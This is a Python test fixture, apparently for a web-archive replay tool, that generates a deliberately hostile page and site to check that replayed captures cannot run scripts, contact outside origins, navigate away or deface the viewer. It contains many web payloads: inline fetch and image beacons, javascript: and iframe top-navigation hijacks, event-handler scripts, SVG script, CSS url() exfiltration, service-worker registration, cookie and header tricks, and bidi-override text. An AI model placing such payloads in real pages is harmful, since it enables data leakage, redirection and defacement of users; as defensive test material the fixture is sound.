"""Archived pages that try everything: to run, to send, to navigate, to deface."""

from __future__ import annotations

from collections.abc import Iterator

from tests.archive.replay.serving import PNG, page
from tidings.model import Capture

SITE = "http://hostile.example"
TRICKS = "\u202e\u2066moc.elpmaxe\u2069 \u202dabc" + "A" * 5_000

_PAGE = """<!DOCTYPE html><html manifest="{out}/manifest"><head>
<base href="{out}/base/" target="_top">
<meta http-equiv="refresh" content="0;url={out}/refresh">
<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'; img-src *">
<title>{tricks}</title>
<link rel="stylesheet" href="http://hostile.example/site.css">
<link rel="stylesheet" href="{out}/outside.css">
<link rel="preload" as="script" href="{out}/preload.js"><link rel="prefetch" href="{out}/prefetch">
<link rel="dns-prefetch" href="{out}"><link rel="preconnect" href="{out}"><link rel="icon" href="{out}/icon.png">
<link rel="manifest" href="{out}/app.json"><link rel="modulepreload" href="{out}/module.js">
<script src="{out}/script.js"></script>
<script>document.title = "ran"; fetch("{out}/fetch"); top.location = "{out}/top"; new Image().src = "{out}/image";
navigator.serviceWorker.register("/worker.js"); window.open("{out}/popup"); localStorage.ran = 1;</script>
<script type="speculationrules">{{"prefetch": [{{"urls": ["{out}/speculated"]}}]}}</script>
<style>@import "{out}/import.css"; @import url({out}/import2.css);
@font-face {{ font-family: f; src: url("{out}/font.woff2") }}
body {{ font-family: f; background: url({out}/background.png); width: expression(alert(1)); behavior: url({out}/b.htc) }}
p::after {{ content: url("{out}/content.png") }} div {{ background: image-set("{out}/set.png" 1x) }}
#cover {{ position: fixed; inset: 0; z-index: 2147483647; background: #f0f }}
@media print {{ b {{ background: u\\72l({out}/escaped.png) }} }}</style></head>
<body onload="location='{out}/onload'" background="{out}/old.png">
<div id="cover"></div>
<img src="{out}/img.png" srcset="{out}/set2.png 2x" onerror="location='{out}/onerror'">
<img src="http://hostile.example/picture.png" id="own"><img src="x" onerror="fetch('{out}/handler')">
<picture><source srcset="{out}/source.webp"><img src="{out}/picture.png"></picture>
<a id="script" href="javascript:top.location='{out}/click'">{tricks}</a>
<a id="outside" href="{out}/link" target="_top" ping="{out}/ping">outside</a>
<a id="blank" href="{out}/blank" target="_blank">new window</a>
<a id="mail" href="mailto:x@evil.example">mail</a>
<a id="inside" href="http://hostile.example/second">second</a>
<form id="form" action="{out}/form" method="post"><input name="a" value="b" autofocus onfocus="fetch('{out}/focus')">
<button id="submit">send</button><button formaction="{out}/formaction">send</button>
<input type="image" src="{out}/input.png"></form>
<iframe src="{out}/frame"></iframe><iframe src="javascript:top.location='{out}/frame2'"></iframe>
<iframe srcdoc="<script>top.location='{out}/srcdoc'</script><img src='{out}/srcdoc.png'>"></iframe>
<iframe src="data:text/html,<script>top.location='{out}/data'</script>"></iframe>
<iframe src="http://hostile.example/framed" id="framed"></iframe>
<object data="{out}/object.swf"><embed src="{out}/embed.swf"></object><embed src="{out}/embed2.pdf">
<svg width="9" height="9"><script>fetch("{out}/svg")</script><image href="{out}/svg.png" width="9" height="9"/>
<use href="{out}/use.svg#a"/><a href="{out}/svglink"><rect width="9" height="9" fill="url({out}/fill.svg#a)"/>
<animate attributeName="href" values="{out}/animated"/></a><foreignObject><img src="{out}/foreign.png"></foreignObject></svg>
<img src="http://hostile.example/drawing.svg">
<video src="{out}/video.mp4" poster="{out}/poster.png" autoplay></video><audio src="{out}/audio.mp3" autoplay></audio>
<track src="{out}/track.vtt"><input type="text" list="l"><math href="{out}/math"><mi>x</mi></math>
<template shadowrootmode="open"><img src="{out}/shadow.png"></template>
<p style="background: url('{out}/inline.png')">{tricks}</p>
<p>{huge}</p></body></html>"""


def hostile_page(out: str) -> str:
    """Return the page; ``out`` is the origin it wants to reach."""
    return _PAGE.format(out=out, tricks=TRICKS, huge="word " * 50_000)


def hostile_site(out: str) -> Iterator[Capture]:
    """Yield the captures of a hostile site."""
    yield page(f"{SITE}/", hostile_page(out))._replace(
        headers=(
            ("Content-Type", "text/html"), ("Set-Cookie", "stolen=1; Path=/"), ("Refresh", f"0;url={out}/header"),
            ("Link", f"<{out}/linked.css>; rel=stylesheet, <{out}/pre.js>; rel=preload; as=script"),
            ("Content-Security-Policy", f"report-uri {out}/report; default-src *"), ("Clear-Site-Data", '"*"'),
            ("Report-To", f'{{"endpoints": [{{"url": "{out}/reporting"}}]}}'), ("Service-Worker-Allowed", "/"),
        )
    )  # fmt: skip
    sheet = f"@import '{out}/nested.css'; @import 'second.css'; #own {{ border: 9px solid; border-image: url({out}/b.png) }}"
    yield page(f"{SITE}/site.css", sheet, "text/css")
    yield page(f"{SITE}/second.css", "#inside { color: rgb(1, 2, 3) }", "text/css")
    yield page(f"{SITE}/picture.png", PNG, "image/png")
    script = f"<script>new Image().src='{out}/drawn'</script><image href='{out}/drawn.png'/>"
    yield page(
        f"{SITE}/drawing.svg",
        f"<svg xmlns='http://www.w3.org/2000/svg'>{script}</svg>",
        "image/svg+xml",
    )
    nested = (
        f"<p id=nested>framed<script>top.location='{out}/nested'</script><img src={out}/nested.png>"
    )
    yield page(f"{SITE}/framed", nested + f"<a target=_top href={out}/nestedlink>x</a>")
    yield page(f"{SITE}/second", "<title>Second</title><p id=second>the second page")
    yield page(f"{SITE}/worker.js", "self.addEventListener('fetch', e => 0)", "text/javascript")
